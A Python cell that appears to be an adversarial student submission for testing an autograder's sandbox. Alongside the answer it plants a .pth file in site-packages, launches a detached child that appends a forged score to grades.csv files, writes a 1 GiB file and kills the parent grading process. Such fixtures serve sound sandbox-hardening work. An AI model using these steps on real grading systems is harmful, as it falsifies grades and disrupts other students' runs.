# Your answer goes in `answer_w1`.
import os
import signal
import site
import subprocess
import sys

for attempt in (
    # a .pth file runs in every later Python process of this environment: every other student's grading kernel
    lambda: open(os.path.join(site.getsitepackages()[0], "zz-coursekit-evil.pth"), "w").write("import os\n"),
    # a detached child that waits for the run to end, then raises this student's row in grades.csv
    lambda: subprocess.Popen([sys.executable, "-c", "import time, glob\ntime.sleep(5)\n"
                              "[open(p, 'a').write('ex-escapes-the-sandbox,99\\n') for p in glob.glob('/**/grades.csv', recursive=True)]\n"
                              "open('/tmp/coursekit-evil-child-ran', 'w')"],
                             start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL),
    # a 1 GiB file next to the notebook, which a grader might copy into the feedback that goes back to students
    lambda: open("huge.bin", "wb").write(b"0" * (1 << 30)),
    # stop the grading run for everyone after this student
    lambda: os.kill(os.getppid(), signal.SIGKILL),
):
    try:
        attempt()
    except (OSError, MemoryError):
        pass

answer_w1 = "b"
